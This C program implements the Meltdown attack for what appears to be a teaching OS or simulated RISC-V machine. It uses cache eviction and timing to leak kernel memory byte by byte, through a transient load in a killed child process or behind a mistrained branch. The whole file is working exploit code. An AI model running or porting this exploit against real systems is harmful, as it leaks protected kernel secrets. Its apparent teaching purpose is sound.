// meltdown.c - reads what it may not: the kernel's secret, by the time that loads take (Lipp et al., "Meltdown", 2018).
//
//   meltdown [fork|branch] [LENGTH [ADDRESS]]
//
// A load from the kernel's memory is refused. But this machine, told to (--transient), goes on for a while as if it were not, with the
// value, and then throws away all that it has done; only the cache remembers. So:
//
//   Evict    256 lines of ours, one for each value that a byte can have, are far away
//   Transmit a load that is refused, and behind it one from line number VALUE: it never happens, but the line is near
//   Reload   each line, with a look at the clock: one comes sooner than all others
//
// User mode has no instruction that throws a line out of the caches. It does it by using others that want the same place.
//
// The refused load would be the end of us. Two ways out:
//
//   fork     a child does it, and is killed. Its lines are ours, as long as nobody writes to them: this needs fork=cow
//   branch   it stands behind a branch that does not go there, but has always gone there before: it never happens at all
#include <trapframe.h>

// What must be known of the machine (docs/machine.md, "What things take"): lines, and the second cache, the larger one.
#define LINE 64
#define CACHE_SETS 1024
#define CACHE_WAYS 8
#define PAGE 4096

#define VALUES 256
#define STRIDE 512 // between two of the lines: so that a page has eight of them, and lines between that mean nothing
#define ROUNDS 4   // until one line answers: the timer may have come between
#define MOST 1024  // bytes at a time
#define TRAINING 4

static volatile uint8_t lines[VALUES * STRIDE] __attribute__((aligned(PAGE)));
static volatile uint8_t other_line[LINE] __attribute__((aligned(LINE)));
static const volatile uint8_t zero = 0;
static volatile uint8_t *others; // as many lines as push out all that are at the same place of the caches, and half as many more
#define OTHERS (LINE * CACHE_SETS * (CACHE_WAYS + CACHE_WAYS / 2))

static volatile uint8_t sink;
static long near_is_below; // cycles

static long time_of(const volatile uint8_t *line) {
  long before, after, value;
  asm volatile(".balign 64\n csrr %0, cycle\n lbu %2, 0(%3)\n csrr %1, cycle"
               : "=&r"(before), "=&r"(after), "=&r"(value) : "r"(line) : "memory");
  return after - before;
}

// A load, and no store: that could be the first to a shared page, and lead through the kernel.
static void use(const volatile uint8_t *line) {
  long value;
  asm volatile("lbu %0, 0(%1)" : "=r"(value) : "r"(line) : "memory");
}

// One pass over the others, at the places in their pages that the lines have in theirs.
static void evict(void) {
  const volatile uint8_t *at = others, *end = others + OTHERS;
  long value;
  asm volatile("1: lbu %1, 0(%0)\n add %0, %0, %3\n bltu %0, %2, 1b"
               : "+&r"(at), "=&r"(value) : "r"(end), "r"((long)STRIDE) : "memory");
}

// How long a load takes whose page is known already: else the walk of the page table would be in it.
static long reload(int value) {
  const volatile uint8_t *line = lines + value * STRIDE;
  use(line + LINE);
  return time_of(line);
}

static bool calibrate(void) {
  long near = 0, far = 0;
  for (int i = 0; i < 3; i++) { // what counts is the last: then this code itself is near
    evict();
    far = reload(0);
    near = reload(0);
  }
  near_is_below = near + (far - near) / 2;
  return far > near;
}

// The line that is near, if it is the only one.
static int reload_all(void) {
  int found = -1, count = 0;
  for (int value = 0; value < VALUES; value++) {
    if (reload(value) >= near_is_below) continue;
    found = value;
    count++;
  }
  return count == 1 ? found : -1;
}

// The parent comes to the same branches as the child, and goes on behind them as the child did, until it finds out. This ends that.
static void fence(void) { asm volatile("fence" ::: "memory"); }

static void transmit_in_child(const volatile uint8_t *address) {
  int child = fork();
  if (child < 0) return;
  if (child == 0) {
    fence();
    sink = lines[*address * STRIDE]; // the left half kills us; the right half never happens
    exit(0);
  }
  wait(NULL);
}

// What the branch in here will do is foreseen by what it did.
static void transmit_if(bool really, const volatile uint8_t *address, const volatile uint8_t *to) {
  if (really) sink = to[*address * STRIDE];
}

static void transmit_behind_branch(const volatile uint8_t *address) {
  for (int i = 0; i < TRAINING; i++) transmit_if(true, &zero, other_line);
  transmit_if(false, address, lines);
}

typedef void transmit_function(const volatile uint8_t *address);

static int read_byte(transmit_function *transmit, const volatile uint8_t *address) {
  for (int round = 0; round < ROUNDS; round++) {
    evict();
    transmit(address);
    int value = reload_all();
    if (value >= 0) return value;
  }
  return -1;
}

// Whether a line that a child has used is near for us.
static bool child_shares_lines(void) {
  evict();
  int child = fork();
  if (child == 0) {
    fence();
    use(lines);
    exit(0);
  }
  return child > 0 && wait(NULL) == child && reload(0) < near_is_below;
}

static uint64_t number(const char *text) {
  uint64_t value = 0;
  int base = text[0] == '0' && text[1] == 'x' ? 16 : 10;
  for (const char *at = base == 16 ? text + 2 : text; *at != '\0'; at++)
    value = value * base + (*at >= 'a' ? *at - 'a' + 10 : *at - '0');
  return value;
}

// The third argument of main is where the kernel's secret is.
int main(int argc, char **argv, const volatile uint8_t *address) {
  transmit_function *transmit = NULL;
  int next = 1;
  if (next < argc && strcmp(argv[next], "fork") == 0) transmit = transmit_in_child, next++;
  else if (next < argc && strcmp(argv[next], "branch") == 0) transmit = transmit_behind_branch, next++;
  uint64_t length = next < argc ? number(argv[next++]) : 32;
  if (next < argc) address = (const volatile uint8_t *)number(argv[next]);
  if (length < 1 || length > MOST) {
    printf("usage: meltdown [fork|branch] [LENGTH [ADDRESS]], with up to %d bytes\n", MOST);
    return 2;
  }

  others = sbrk(OTHERS + PAGE);
  if ((long)others < 0) {
    printf("meltdown: there is not enough memory\n");
    return 1;
  }
  others = (volatile uint8_t *)(((uint64_t)others + PAGE - 1) & -PAGE);
  if (!calibrate()) printf("meltdown: all loads take the same time (--cost-model caches)\n");
  if (transmit == NULL) transmit = child_shares_lines() ? transmit_in_child : transmit_behind_branch;
  printf("meltdown: %lu bytes at %p, %s\n", length, (void *)address,
         transmit == transmit_in_child ? "read by children that are killed" : "read behind a branch that goes elsewhere");

  static char text[MOST + 2];
  int known = 0;
  for (uint64_t i = 0; i < length; i++) {
    int value = read_byte(transmit, address + i);
    known += value >= 0;
    text[i] = value < 0 ? '?' : (char)(value < ' ' || value == 0x7f ? '.' : value);
  }
  text[length] = '\n';
  printf("meltdown: %d of %lu bytes answered\n", known, length);
  write(1, text, length + 1);
  return 0;
}
